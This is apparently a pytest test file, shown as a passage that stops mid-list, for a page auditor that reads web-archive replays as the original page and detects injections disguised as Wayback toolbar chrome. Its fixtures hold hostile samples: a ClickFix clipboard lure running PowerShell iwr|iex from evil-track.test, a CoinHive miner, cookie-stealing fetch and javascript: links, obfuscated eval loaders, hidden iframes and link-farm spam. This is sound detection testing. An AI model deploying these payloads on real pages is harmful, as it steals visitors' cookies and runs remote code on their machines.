"""Pages saved from a web archive's replay are audited as the original page they copy.

The fixtures are pages we wrote: a news article with the tags its stack ships (GPT,
gtag, the Meta pixel, AdSense, a YouTube embed), that article as the Wayback Machine
serves it (its head include, toolbar, donate frame and trailer; URLs wrapped absolute,
from the root and protocol-relative, with `js_`, `cs_`, `im_`, `if_` or no modifier) and
as pywb serves it (its head insert, a collection on another host), and a page that only
links to archived copies.
"""

from __future__ import annotations

import io
import re
import time
from pathlib import Path

import lxml.html
import pytest

from auditor.catalogue import Catalogue
from auditor.model import PageReport, Replay, Severity
from auditor.pipeline import audit_document, audit_records
from auditor.readers import Document
from auditor.readers.warc import read_warc
from auditor.replay import unwrapped
from auditor.report import RunSummary
from auditor.report.html_report import HtmlReporter
from auditor.report.markdown import MarkdownReporter
from auditor.report.terminal import render_pages
from auditor.rules import Engine
from tests.archive_fixtures import response, warc_bytes

HERE = Path(__file__).resolve().parent / "fixtures" / "replay"
ORIGINAL_URL = "https://www.harbour-gazette.test/local/ferry-timetable"
STAMP = "20240312081530"
WAYBACK_URL = f"https://web.archive.org/web/{STAMP}/{ORIGINAL_URL}"


def _audit(name: str, url: str | None, engine: Engine, catalogue: Catalogue) -> PageReport:
    text = (HERE / name).read_text(encoding="utf-8")
    return audit_document(Document(input=name, kind="html", text=text, url=url), engine,
                          catalogue)


def _what_it_names(page: PageReport) -> dict[str, object]:
    """What a reviewer reads off a page: who is on it, with which IDs, slots and hosts,
    what it requests, and what is wrong with it (line-free)."""
    return {
        "first_party": page.first_party,
        "networks": [n.to_dict() for n in page.networks],
        "ids": sorted((i.kind, i.value, i.origin.value) for i in page.ids),
        "slots": [(s.network, s.zone_id, s.width, s.height) for s in page.slots],
        "hosts": [(h.host, h.network, h.resources, h.blocked) for h in page.third_party_hosts],
        "resources": sorted((r.url, r.type, r.third_party, r.network) for r in page.resources),
        "findings": sorted((f.kind, f.severity.value, f.message) for f in page.findings),
        "mfa": [(i.criterion, i.met) for i in page.mfa.indicators] if page.mfa else None,
        "content": page.metrics.content_chars,
    }


@pytest.fixture(scope="module")
def original(engine: Engine, catalogue: Catalogue) -> PageReport:
    return _audit("news-original.html", ORIGINAL_URL, engine, catalogue)


@pytest.mark.parametrize(("name", "url"), [
    ("news-wayback.html", WAYBACK_URL),  # saved with the URL it was served at
    ("news-wayback.html", None),  # a file alone: the page's own marks say it is a replay
    ("news-pywb.html", f"http://localhost:8080/gazette-2024/{STAMP}mp_/{ORIGINAL_URL}"),
    ("news-pywb.html", None),
])
def test_a_replay_names_what_the_original_page_names(
    name: str, url: str | None, original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    copy = _audit(name, url, engine, catalogue)
    assert copy.url == ORIGINAL_URL
    assert _what_it_names(copy) == _what_it_names(original)
    assert {n.network for n in copy.networks} >= {
        "Google Publisher Tag", "Google Analytics", "Facebook Pixel", "Google AdSense"}
    assert not any("archive.org" in r.url or "localhost" in r.url for r in copy.resources)


@pytest.mark.parametrize(("name", "url", "archive", "served"), [
    ("news-wayback.html", WAYBACK_URL, "Wayback Machine", WAYBACK_URL),
    ("news-wayback.html", None, "Wayback Machine", None),
    ("news-pywb.html", None, "pywb", None),
])
def test_the_report_says_whose_capture_of_when(
    name: str, url: str | None, archive: str, served: str | None, engine: Engine,
    catalogue: Catalogue
) -> None:
    page = _audit(name, url, engine, catalogue)
    assert page.replay is not None
    assert page.to_dict()["replay"] == {"archive": archive, "original": ORIGINAL_URL,
                                        "captured": "2024-03-12T08:15:30Z",
                                        "replay_url": served}
    header = render_pages([page], width=200)
    assert f"archived     {archive} capture of 2024-03-12T08:15:30Z" in header


def test_a_page_linking_to_archived_copies_keeps_them_the_archives(
    engine: Engine, catalogue: Catalogue
) -> None:
    url = "https://www.harbour-gazette.test/sources"
    page = _audit("links-archive.html", url, engine, catalogue)
    assert page.replay is None and page.first_party == "harbour-gazette.test"
    assert [h.host for h in page.third_party_hosts] == ["web.archive.org"]
    text = (HERE / "links-archive.html").read_text(encoding="utf-8")
    doc = Document(input="t", kind="html", text=text, url=url)
    assert unwrapped(doc) == (doc, None)


def test_the_archives_chrome_keeps_the_saved_files_line_numbers(
    original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    text = (HERE / "news-wayback.html").read_text(encoding="utf-8")
    doc, _ = unwrapped(Document(input="t", kind="html", text=text, url=WAYBACK_URL))
    assert doc.text.count("\n") == text.count("\n")
    assert "__wm" not in doc.text and "archive.org" not in doc.text
    copy = _audit("news-wayback.html", WAYBACK_URL, engine, catalogue)
    pixel = next(r for r in copy.resources if r.host == "www.facebook.com")
    saved = text.splitlines()[pixel.line - 1]
    assert "facebook.com/tr" in saved


def test_a_warc_holding_a_wayback_replay_is_read_as_the_original(
    original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    text = (HERE / "news-wayback.html").read_text(encoding="utf-8")
    data = warc_bytes([response(WAYBACK_URL, text)])
    [page] = list(audit_records(read_warc(io.BytesIO(data), "t.warc"), engine, catalogue))
    assert page.replay is not None and page.replay.replay_url == WAYBACK_URL
    assert _what_it_names(page) == _what_it_names(original)


def test_an_mhtml_of_a_wayback_replay_counts_none_of_the_archives_own_files(
    engine: Engine, catalogue: Catalogue
) -> None:
    """Chrome's "Save as single file" of a Wayback page keeps, beside the page, what the
    toolbar loaded (its sheets, font and logo from web-static.archive.org, its donate frame
    from archive.org) as parts: the page's text had its chrome blanked, its parts named
    web-static.archive.org (5 resources), archive.org (2) and web.archive.org as the page's
    third parties. They are dropped as the toolbar's markup is; the archive's copies of
    the page's own files and vendors' (`/web/<time>im_/…`) stay, as what they copy."""
    from auditor.readers.registry import read_source
    from tests.mhtml_fixtures import PNG, Part, chrome

    text = (HERE / "news-wayback.html").read_text(encoding="utf-8")
    static = "https://web-static.archive.org/_static"
    wrapped = f"https://web.archive.org/web/{STAMP}"
    donate = ("https://archive.org/includes/donate.php?as_page=1&platform=wb&referer="
              "https%3A//web.archive.org/web/20240312081530/https%3A//www.harbour-gazette.test/"
              "local/ferry-timetable")
    parts = [
        Part("text/html", WAYBACK_URL, text.encode()),
        Part("text/css", f"{static}/css/banner-styles.css?v=S1zqJCYt", b"#wm-ipp-base{}"),
        Part("text/css", f"{static}/css/iconochive.css?v=3PDvdIFv", b".iconochive-web{}"),
        Part("font/woff", f"{static}/webfonts/iconochive.woff?v=3e0d7b1c", b"wOFF"),
        Part("image/png", f"{static}/images/toolbar/wayback-toolbar-logo-200.png", PNG),
        Part("image/gif", "https://web.archive.org/_static/images/loading.gif", PNG),
        Part("text/html", donate, b"<p>Donate</p><img src='https://archive.org/images/a.png'>",
             cid="frame-0A1B2C3D4E5F60718293A4B5C6D7E8F9@mhtml.blink"),
        Part("image/png", f"{wrapped}im_/https://www.harbour-gazette.test/assets/logo.png", PNG),
        Part("image/gif", f"{wrapped}im_/https://ads.tracker-one.test/p.gif?u=1", PNG),
    ]
    [doc] = list(read_source(chrome(WAYBACK_URL, "Ferry timetable", parts)))
    assert isinstance(doc, Document) and doc.kind == "mhtml"
    saved = audit_document(doc, engine, catalogue)
    plain = _audit("news-wayback.html", WAYBACK_URL, engine, catalogue)
    assert saved.replay is not None and saved.first_party == plain.first_party
    hosts = [h.host for h in saved.third_party_hosts]
    assert not [h for h in hosts if h.endswith("archive.org")], hosts
    assert sorted(hosts) == sorted({h.host for h in plain.third_party_hosts} | {
        "ads.tracker-one.test"})
    tracker = [r for r in saved.resources if r.host == "ads.tracker-one.test"]
    assert [r.url for r in tracker] == ["https://ads.tracker-one.test/p.gif?u=1"]


@pytest.mark.parametrize(("url", "wrapped", "original"), [
    ("https://web.archive.org/web/20230105123456/https://a.test/",
     '<script src="https://web.archive.org/web/20230105123456id_/https://v.test/x.js">',
     '<script src="https://v.test/x.js">'),
    ("https://web.archive.org/web/20230105123456/https://a.test/",
     '<frame src="/web/20230105123456fw_/http://a.test/nav.html">',
     '<frame src="http://a.test/nav.html">'),
    ("https://wayback.archive-it.org/1234/20230105123456/https://a.test/",
     '<a href="https://wayback.archive-it.org/1234/20230105123456/https://a.test/b">',
     '<a href="https://a.test/b">'),
    ("https://wayback.archive-it.org/1234/20230105123456/https://a.test/",
     '<img src="/1234/20230105123456im_/https://v.test/p.gif">',
     '<img src="https://v.test/p.gif">'),
    # another site's path that looks like a wrapper is that site's
    ("https://web.archive.org/web/20230105123456/https://a.test/",
     '<img src="https://cdn.test/web/20230105123456im_/https://v.test/p.gif">',
     '<img src="https://cdn.test/web/20230105123456im_/https://v.test/p.gif">'),
])
def test_a_replay_url_reads_as_the_url_it_wraps(url: str, wrapped: str, original: str) -> None:
    doc, replay = unwrapped(Document(input="t", kind="html", text=wrapped, url=url))
    assert doc.text == original and doc.url == "https://a.test/"
    assert replay is not None and replay.replay_url == url


@pytest.mark.parametrize("url", ["https://archive.ph/Qm7tZ", None])
def test_an_archive_today_snapshot_is_the_originals_with_no_false_finding(
    url: str | None, original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    # scripts are gone and images are the archive's hashed copies, so the vendors cannot be
    # named; what must hold is the original's first party and no finding from the archive
    page = _audit("news-archive-today.html", url, engine, catalogue)
    assert (page.url, page.first_party) == (ORIGINAL_URL, original.first_party)
    assert page.to_dict()["replay"] == {"archive": "archive.today", "original": ORIGINAL_URL,
                                        "captured": "2024-03-12T08:15:30Z", "replay_url": url}
    assert page.findings == () and page.third_party_hosts == () and page.provenance == ()
    assert page.mfa is not None and original.mfa is not None
    met = {i.criterion for i in page.mfa.indicators if i.met}
    assert met <= {i.criterion for i in original.mfa.indicators if i.met}


def test_a_page_naming_archive_today_is_no_snapshot(engine: Engine, catalogue: Catalogue
                                                    ) -> None:
    text = ('<html><body><p>Copies: <a href="https://archive.ph/Qm7tZ">archive.ph</a>, '
            '<a href="https://archive.ph/2024.03.12-081530/https://a.test/">long</a></p>'
            '<div id="HEADER">site header</div><div id="CONTENT">text</div></body></html>')
    doc = Document(input="t", kind="html", text=text, url="https://blog.test/copies")
    assert unwrapped(doc) == (doc, None)


def test_a_chrome_start_with_no_end_blanks_nothing() -> None:
    # a toolbar comment that never closes is no toolbar: the page after it is the page's
    text = ('<html><head><script>__wm.wombat("https://a.test/","20240312081530",'
            '"https://web.archive.org/","web","x","1")</script></head><body>'
            '<!-- BEGIN WAYBACK TOOLBAR INSERT --><p>the story</p>'
            '<script src="/web/20240312081530js_/https://v.test/ad.js"></script></body></html>')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and doc.url == "https://a.test/"
    assert '<p>the story</p><script src="https://v.test/ad.js">' in doc.text


# the same blog page as written (blog-template.html: {GA} and {ADS} its loaders' URLs), and
# as the Wayback Machine served it in 2017 (the head include of its wbhack years, paths
# from the archive's root, the trailer after </html>); its inline loader's URL, rewritten
# in the page's code, keeps its escaped slashes
_BLOG = (HERE / "blog-template.html").read_text(encoding="utf-8")
_WAYBACK_2017_HEAD = (HERE / "wayback-2017-head.html").read_text(encoding="utf-8")
_WAYBACK_2017_TRAILER = (HERE / "wayback-2017-trailer.html").read_text(encoding="utf-8")


def test_an_older_wayback_copy_names_what_the_original_names(
    engine: Engine, catalogue: Catalogue
) -> None:
    page_url = "http://allotment-diary.test/2017/05/may"
    plain = _BLOG.replace("{GA}", r"https:\/\/ssl.google-analytics.com\/ga.js").replace(
        "{ADS}", "//pagead2.googlesyndication.com/pagead/js/adsbygoogle.js")
    copy = _BLOG.replace(
        "{GA}", r"https:\/\/web.archive.org\/web\/20170521094107js_\/https:\/\/ssl.google-"
                r"analytics.com\/ga.js").replace(
        "{ADS}", "/web/20170521094107js_/http://pagead2.googlesyndication.com/pagead/js/"
                 "adsbygoogle.js").replace("<head>\n", _WAYBACK_2017_HEAD, 1
                                           ) + _WAYBACK_2017_TRAILER
    original = audit_document(Document("o", "html", plain, page_url), engine, catalogue)
    archived = audit_document(Document("c", "html", copy, None), engine, catalogue)
    assert archived.replay is not None
    assert (archived.replay.archive, archived.replay.captured) == ("Wayback Machine",
                                                                   "2017-05-21T09:41:07Z")
    assert archived.first_party is None  # the trailer names no original, and no URL was given
    given = audit_document(Document("c", "html", copy, f"https://web.archive.org/web/"
                                    f"20170521094107/{page_url}"), engine, catalogue)
    assert given.url == page_url
    same = {"Google AdSense", "Google Analytics"}
    assert {n.network for n in given.networks} == {n.network for n in original.networks} >= same
    assert sorted((i.kind, i.value) for i in given.ids) == sorted(
        (i.kind, i.value) for i in original.ids)
    assert [f.kind for f in given.findings] == [f.kind for f in original.findings]
    assert [h.host for h in given.third_party_hosts] == [
        h.host for h in original.third_party_hosts]


def test_a_page_url_given_stands_over_the_marks(engine: Engine, catalogue: Catalogue) -> None:
    # the user's --url of the original wins; a replay URL given is read for its original
    url = "https://www.harbour-gazette.test/local/ferry-timetable?amp=1"
    page = _audit("news-wayback.html", url, engine, catalogue)
    assert page.url == url and page.replay is not None
    assert (page.replay.original, page.replay.replay_url) == (ORIGINAL_URL, None)


_MARK = ('__wm.wombat("https://example.com/","20230105123456","https://web.archive.org/",'
         '"web","https://web-static.archive.org/_static/","1672921496");')


@pytest.mark.parametrize("text", [
    # a blog post on stripping Wayback's chrome, quoting its code in the text
    f'<html><body><article><pre><code>{_MARK}</code></pre><p>its links look like '
    '<a href="https://web.archive.org/web/20230105123456/https://example.com/a">this</a>'
    '</p><img src="https://web.archive.org/web/20230105123456im_/https://example.com/l.png">'
    '</article></body></html>',
    # pywb's documentation quoting its head insert
    '<html><body><pre>\nwbinfo.url = "https://example.com/";\nwbinfo.timestamp = '
    '"20230105123456";\nwbinfo.prefix = decodeURI("http://localhost:8080/my-coll/");\n</pre>'
    '<img src="http://localhost:8080/my-coll/20230105123456im_/https://example.com/l.png">'
    '</body></html>',
    # a userscript that strips the marks, holding one in a string
    f"<html><head><script>const sample = '{_MARK}';</script></head><body>"
    '<img src="https://web.archive.org/web/20230105123456im_/https://example.com/l.png">'
    '</body></html>',
    # the trailer comment, quoted by a script
    '<html><body><script>var t = "<!-- FILE ARCHIVED ON 08:15:30 Mar 12, 2024 AND RETRIEVED '
    'FROM THE INTERNET ARCHIVE";</script><img src="https://web.archive.org/web/'
    '20230105123456im_/https://example.com/l.png"></body></html>',
])
@pytest.mark.parametrize("url", ["https://blog.test/post", None])
def test_a_page_quoting_a_replays_code_is_no_replay(text: str, url: str | None) -> None:
    doc = Document(input="t", kind="html", text=text, url=url)
    assert unwrapped(doc) == (doc, None)


_WOMBAT_OF_SITE = ('<script>__wm.wombat("https://www.harbour-gazette.test/","20230105123456",'
                   '"https://web.archive.org/","web","x","1");</script>')


@pytest.mark.parametrize("injected", [
    # an injection any page can wrap in the toolbar's comments
    '<!-- BEGIN WAYBACK TOOLBAR INSERT -->\n<iframe src="http://evil-track.test/in.cgi?2" '
    'width="1" height="1" style="visibility:hidden"></iframe>\n'
    '<!-- END WAYBACK TOOLBAR INSERT -->',
    # or start with the trailer's call
    "<script>__wm.bt(1);var s=document.createElement('script');s.src="
    "'https:\\/\\/evil-track.test\\/p.js';document.head.appendChild(s);</script>",
])
def test_chrome_that_loads_another_sites_code_is_the_pages(
    injected: str, engine: Engine, catalogue: Catalogue
) -> None:
    # what looks like the archive's chrome but loads what is not the archive's stays
    text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{injected}\n"
            "<article><p>The council voted.</p></article></body></html>")
    page = audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                          engine, catalogue)
    assert page.replay is not None
    assert [h.host for h in page.third_party_hosts] == ["evil-track.test"]


def test_the_archives_chrome_keeps_the_saved_files_xpaths(
    original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    # the chrome's elements are left empty, not dropped: the page's own after it keep the
    # indexes they have in the saved file
    text = (HERE / "news-wayback.html").read_text(encoding="utf-8")
    saved = lxml.html.fromstring(text).getroottree()
    copy = _audit("news-wayback.html", WAYBACK_URL, engine, catalogue)
    for r in copy.resources:
        [element] = saved.xpath(r.xpath)
        written = " ".join(str(v) for v in element.attrib.values()) + (element.text or "")
        assert r.url.split("/")[2] in written.replace("\\/", "/"), (r.url, r.xpath)


def test_a_head_include_in_a_page_without_head_keeps_its_html_tag() -> None:
    text = ('<!DOCTYPE html>\n<html lang="en"><script src="/_static/js/bundle-playback.js">'
            f'</script>\n{_WOMBAT_OF_SITE}\n<!-- End Wayback Rewrite JS Include -->\n'
            '<title>Shop</title><body><p>Shop</p></body></html>')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and doc.text.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert "bundle-playback" not in doc.text and "__wm" not in doc.text


def test_every_report_says_it_read_an_archives_copy_and_escapes_it() -> None:
    served = ('https://web.archive.org/web/2023/https://x.test/"><script>alert(1)</script>'
              '|`*[a](b)\x1b[31m')
    page = PageReport(input="t", url="https://x.test/", kind="html", first_party="x.test",
                      title=None, replay=Replay("Wayback Machine", "https://x.test/",
                                                "2023-01-05", served))
    done = RunSummary(1, 0, 0, 0, False, True)
    html_out, md_out = io.StringIO(), io.StringIO()
    for reporter in (HtmlReporter(html_out, "test"), MarkdownReporter(md_out, "test")):
        reporter.start(())
        reporter.handle(page)
        reporter.finished(done)
    assert "<dt>archived</dt><dd>Wayback Machine capture of 2023-01-05" in html_out.getvalue()
    assert "<script>alert" not in html_out.getvalue()
    assert "archived\\: Wayback Machine capture of 2023-01-05" in md_out.getvalue()
    assert "<script>alert" not in md_out.getvalue() and "\x1b" not in md_out.getvalue()
    assert "\x1b" not in render_pages([page], width=200)


def test_pywbs_worker_modifier_is_unwrapped_too() -> None:
    # pywb's modifiers are two letters but its web worker's, `wkr_`
    text = ('<html><head><script>\n  wbinfo.url = "https://a.test/";\n  wbinfo.timestamp = '
            '"20240312081530";\n  wbinfo.prefix = decodeURI("http://localhost:8080/coll/");\n'
            '</script></head><body><script>new Worker("/coll/20240312081530wkr_/https://v.test/'
            'w.js");</script></body></html>')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and 'new Worker("https://v.test/w.js")' in doc.text


def test_the_toolbar_naming_other_sites_without_loading_them_is_still_chrome(
    original: PageReport, engine: Engine, catalogue: Catalogue
) -> None:
    # a capture reached through a redirect: the toolbar's search box holds the URL asked
    # for, another host than the page's; its share links lead to other sites
    text = (HERE / "news-wayback.html").read_text(encoding="utf-8").replace(
        'id="wmtbURL" value="https://www.harbour-gazette.test/local/ferry-timetable"',
        'id="wmtbURL" value="http://harbour-gazette.test/ferry"').replace(
        '<div id="wm-graph-anchor">', '<a title="https://www.facebook.com/" href="https://'
        'www.facebook.com/sharer/sharer.php?u=https://web.archive.org/">share</a>'
        '<div id="wm-graph-anchor">')
    assert "http://harbour-gazette.test/ferry" in text and "sharer.php" in text
    copy = audit_document(Document("t", "html", text, WAYBACK_URL), engine, catalogue)
    assert _what_it_names(copy) == _what_it_names(original)


def test_archive_its_pywb_replay_is_named_archive_it() -> None:
    text = ('<html><head><script>\n  wbinfo.url = "https://a.test/";\n  wbinfo.timestamp = '
            '"20240312081530";\n  wbinfo.prefix = decodeURI("https://wayback.archive-it.org/'
            '1234/");\n</script></head><body><img src="https://wayback.archive-it.org/1234/'
            '20240312081530im_/https://v.test/p.gif"></body></html>')
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and replay.archive == "Archive-It"
    assert '<img src="https://v.test/p.gif">' in doc.text


def test_archive_todays_header_quoted_by_a_script_is_no_snapshot() -> None:
    text = ("<html><body><script>const box = '<input id=\"SHARE_LONGLINK\" value=\"https://"
            "archive.ph/2024.03.12-081530/https://a.test/\">';</script><p>text</p></body></html>")
    doc = Document(input="t", kind="html", text=text, url="https://tools.test/archive-helper")
    assert unwrapped(doc) == (doc, None)


@pytest.mark.parametrize("script", [
    "__wm.bt(1);eval(atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk='));",
    "__wm.bt(1);var s=document.createElement('script');s.src=`https://evil-track.test/p.js`;",
    "__wm.bt(1);document.write(String.fromCharCode(60,115,99,114,105,112,116));",
])
def test_chrome_running_code_it_builds_is_the_pages(script: str) -> None:
    # code built at run time hides what it loads: no archive's chrome writes it
    text = (f"<html><head>{_WOMBAT_OF_SITE}</head><body><p>story</p></body></html>\n"
            f"<script>{script}</script>")
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and script in doc.text


@pytest.mark.parametrize("url", [
    # a host that only contains the archive's name
    "https://web.archive.org.mirror.test/web/20230105123456/https://example.com/",
    "https://notweb.archive.org.test/web/20230105123456/https://example.com/",
    # the archive's own pages that are no replay: an item page, the calendar, a search
    "https://archive.org/details/harbour-gazette-1998",
    "https://web.archive.org/web/2023*/https://example.com/*",
    "https://web.archive.org/web/*/example.com",
])
def test_a_page_at_an_archive_like_url_with_no_marks_is_no_replay(url: str) -> None:
    text = ('<html><body><p>Captures of example.com</p><a href="https://web.archive.org/web/'
            '20230105123456/https://example.com/">5 January 2023</a></body></html>')
    doc = Document(input="t", kind="html", text=text, url=url)
    assert unwrapped(doc) == (doc, None)


_TOOLBAR = ("<!-- BEGIN WAYBACK TOOLBAR INSERT -->", "<!-- END WAYBACK TOOLBAR INSERT -->")
_DRESSED = [
    # a wrapped URL: the archive's copy of another site's code, from the root or absolute
    '<script src="/web/20230105123456js_/https://evil-track.test/x.js"></script>',
    '<iframe src="https://web.archive.org/web/2023if_/https://evil-track.test/f" width="0" '
    'height="0" style="display:none"></iframe>',
    # code that names no URL: a ClickFix lure, a miner, a URL put together
    '<script>navigator.clipboard.writeText("powershell -w hidden -c iwr evil-track.test/a|iex")'
    ';document.title="Verify you are human"</script>',
    "<script>var miner=new CoinHive.Anonymous('SITEKEY1234567890abcdef');miner.start();</script>",
    "<script>var s=document.createElement('script');s.src='https:/'+'/evil-track.test/x.js';"
    "document.head.appendChild(s)</script>",
    "<script>__wm.bt(1);window['ev'+'al'](name)</script>",
    "<script>__wm.bt(1);[].constructor.constructor(name)()</script>",
    # markup that loads, hidden from a URL scan by an entity, a srcdoc, CSS or an element
    '<iframe src="https&#58;//evil-track.test/f" width="0" height="0"></iframe>',
    '<iframe srcdoc="&lt;script src=&quot;https://evil-track.test/x.js&quot;&gt;&lt;/script&gt;">'
    '</iframe>',
    '<div style="background:url(https://evil-track.test/p.gif)"></div>',
    '<style>@import "https://evil-track.test/a.css";</style>',
    '<link rel="preload" as="script" href="https://evil-track.test/x.js">',
    '<meta http-equiv="refresh" content="0;url=https://evil-track.test/">',
    '<object data="https://evil-track.test/x.swf"></object>',
    '<svg><image href="https://evil-track.test/p.gif"/></svg>',
    '<base href="https://evil-track.test/">',
    '<a href="/" ping="https://evil-track.test/ping">home</a>',
    '<a href="javascript:fetch(\'https://evil-track.test/c?\'+document.cookie)">x</a>',
    '<img src="/static/x.png" onerror="s=document.createElement(\'script\');document.body.'
    'appendChild(s).src=this.title" title="//evil-track.test/x.js">',
    '<form action="https://evil-track.test/collect" method="post"><input name="q" autofocus '
    'onfocus="this.form.submit()"></form>',
    # a link farm: the toolbar links to the archive, the page and share boxes only
    '<div style="position:absolute;left:-9999px">' + "".join(
        f'<a href="https://casino-bonus{i}.test/">online casino bonus {i}</a> ' for i in range(30)
    ) + "</div>",
    '<div style="position:absolute;left:-9999px">' + "".join(
        f'<a href="\\\\casino-bonus{i}.test\\">online casino bonus {i}</a> ' for i in range(30)
    ) + "</div>",
    # links to the archive's copies of other sites, or to another host after a user name
    '<div style="position:absolute;left:-9999px">' + "".join(
        f'<a href="https://web.archive.org/web/2023/https://casino-bonus{i}.test/">online casino '
        f"bonus {i}</a> " for i in range(30)) + "</div>",
    '<div style="position:absolute;left:-9999px">' + "".join(
        f'<a href="/web/2023/casino-bonus{i}.test/">online casino bonus {i}</a> '
        for i in range(30)) + "</div>",
    '<div style="position:absolute;left:-9999px">' + "".join(
        f'<a href="https://web.archive.org@casino-bonus{i}.test/">online casino bonus {i}</a> '
        for i in range(30)) + "</div>",
    '<script src="/web/20230105123456js_/https:/\n/evil-track.test/x.js"></script>',
    # an item anyone can upload to archive.org is no file of the archive's chrome
    '<script src="https://archive.org/download/harbour-kit/loader.js"></script>'
    '<iframe src="https://ia800100.us.archive.org/3/items/harbour-kit/f.html" width="0" '
    'height="0" style="display:none"></iframe>',
    # markup the browser reads otherwise: a comment ended early, a '>' in a quoted value
    '<!--><script src="https://evil-track.test/x.js"></script>-->',
    '<img title=">" src="//evil-track.test/p.gif">',
    # the saved toolbar's template, the chrome's own names or a 2011-2016 handler around it
    '<template shadowrootmode="open"><iframe src="http://evil-track.test/in.cgi?2" width="1" '
    'height="1" style="visibility:hidden"></iframe></template>',
    '<div id="wm-ipp" class="c" style="position:absolute;left:-9999px">' + "".join(
        f'<a href="https://casino-bonus{i}.test/">online casino bonus {i}</a> ' for i in range(30)
    ) + "</div>",
    '<img src="/static/images/toolbar/wm_tb_close.png" onmouseover="showTrackers(\'inline\');'
    'fetch(\'//evil-track.test/\'+document.cookie)">',
]


@pytest.mark.parametrize("injected", _DRESSED)
def test_an_injection_dressed_as_the_archives_chrome_is_audited_as_it_is(
    injected: str, engine: Engine, catalogue: Catalogue
) -> None:
    # whatever the chrome's comments wrap that is not what the archive's chrome is made of
    # is the page's: the audit reads as it does with the comments taken away
    def page(dressed: bool) -> PageReport:
        start, end = _TOOLBAR if dressed else ("", "")
        text = (f"<!DOCTYPE html>\n<html><head>{_WOMBAT_OF_SITE}</head><body>\n{start}"
                f"{injected}{end}\n<article><p>The council voted.</p></article></body></html>")
        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                              engine, catalogue)

    dressed, bare = page(True), page(False)
    assert dressed.replay is not None
    assert _what_it_names(dressed) == _what_it_names(bare)


@pytest.mark.parametrize("base", [
    '<base href="https://evil-track.test/">', "<base href='//evil-track.test/'>",
    '<base target="_top" href="https:\\\\evil-track.test\\">',
    # a `>` inside a quoted value ends no tag: the scanner that found the base read it as one
    '<base data-note="a>b" href="https://evil-track.test/">',
])
def test_a_path_from_the_root_the_pages_base_sends_elsewhere_is_not_the_archives(
    base: str, engine: Engine, catalogue: Catalogue
) -> None:
    # a page whose links are all absolute (WordPress) loses nothing to an injected <base>,
    # and the toolbar's `/static/…` then loads from the base's host: that host's frame
    def page(dressed: bool) -> PageReport:
        start, end = _TOOLBAR if dressed else ("", "")
        text = (f"<!DOCTYPE html>\n<html><head>{base}{_WOMBAT_OF_SITE}</head><body>\n{start}"
                '<iframe src="/static/f.html" width="0" height="0" style="display:none">'
                f"</iframe>{end}\n<article><p>The council voted.</p></article></body></html>")
        return audit_document(Document("t", "html", text, "https://www.harbour-gazette.test/"),
                              engine, catalogue)

    dressed = page(True)
    assert dressed.replay is not None
    assert [h.host for h in dressed.third_party_hosts] == ["evil-track.test"]
    assert _what_it_names(dressed) == _what_it_names(page(False))


def test_chrome_loads_from_the_archive_not_from_the_host_its_marks_name() -> None:
    # the marks' original and archive host are the page's to write: naming the injection's
    # host there lets the chrome load from it no more than from any other
    marks = ('<script>__wm.wombat("https://evil-track.test/","20230105123456",'
             '"https://evil-track.test/","web","x","1");</script>')
    injected = '<script src="https://evil-track.test/x.js"></script>'
    text = (f"<html><head>{marks}</head><body>{_TOOLBAR[0]}{injected}{_TOOLBAR[1]}"
            "<p>story</p></body></html>")
    doc, replay = unwrapped(Document(input="t", kind="html", text=text, url=None))
    assert replay is not None and injected in doc.text


@pytest.mark.parametrize("marks", [
    '<script>__wm.wombat("https://www.harbour-gazette.test/","20230105123456",'
    '"https://evil-track.test/","web","x","1");</script>',
    '<script>wbinfo.url = "https://www.harbour-gazette.test/"; wbinfo.timestamp = '
    '"20230105123456"; wbinfo.prefix = "https://evil-track.test/web/";</script>',
])
@pytest.mark.parametrize("url", ["https://www.harbour-gazette.test/", None])
def test_a_wrapper_on_a_host_the_marks_name_is_that_hosts_code(
    marks: str, url: str | None, engine: Engine, catalogue: Catalogue
) -> None:
    # the marks' archive host is the page's to write: evil.test's `/web/<time>js_/` copy of
    # jQuery is evil.test's code, and its hidden frame evil.test's, not jQuery's or YouTube's
    injected = ('<script src="https://evil-track.test/web/20230105123456js_/https://ajax.'
                'googleapis.com/ajax/libs/jquery/3.7.1/jquery.min.js"></script>'
                '<iframe src="https://evil-track.test/web/2023if_/https://www.youtube.com/embed/'
                'x" width="0" height="0" style="display:none"></iframe>')
    text = (f"<!DOCTYPE html>\n<html><head>{marks}</head><body>\n{injected}\n"
            "<article><p>The council voted.</p></article></body></html>")
    page = audit_document(Document("t", "html", text, url), engine, catalogue)
    assert page.replay is not None
    assert [h.host for h in page.third_party_hosts] == ["evil-track.test"]
    assert [f.kind for f in page.findings] == ["hidden-iframe"]


_CLICKFIX = ('navigator.clipboard.writeText("powershell -w hidden -c iwr evil-track.test/a|iex");'
             'document.title="Verify you are human";')


@pytest.mark.parametrize("page", [
    # the toolbar's comments inside a script are JavaScript comments: the code between runs
    f"<script>\n{_TOOLBAR[0]}\n{_CLICKFIX}\n{_TOOLBAR[1]}\n</script>",
    f'<script>var a="{_TOOLBAR[0]}";{_CLICKFIX}var b="{_TOOLBAR[1]}";</script>',
    # inside an attribute's value, a style, a script's string before the head include's end
    f'<img alt="{_TOOLBAR[0]}" src="//evil-track.test/p.gif" width="1" height="1" '
    f'title="{_TOOLBAR[1]}">',
    f"<style>{_TOOLBAR[0]}@import url(//evil-track.test/a.css);{_TOOLBAR[1]}</style>",
    f'<script>var h="<head>";{_CLICKFIX}//<!-- End Wayback Rewrite JS Include -->\n</script>',
    # an escaped script runs past its first end tag
